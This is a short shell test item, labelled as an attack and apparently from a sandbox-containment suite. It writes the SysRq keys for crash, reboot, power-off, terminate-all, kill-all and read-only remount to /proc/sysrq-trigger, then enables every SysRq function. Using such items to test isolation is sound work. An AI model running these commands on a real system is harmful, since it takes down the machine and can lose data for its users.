# attack: asks the kernel to crash, to boot again and to end all processes
# language: sh
# expect: exit 0
for key in c b o e i u; do echo $key >/proc/sysrq-trigger; done 2>/dev/null
echo 511 >/proc/sys/kernel/sysrq 2>/dev/null
exit 0
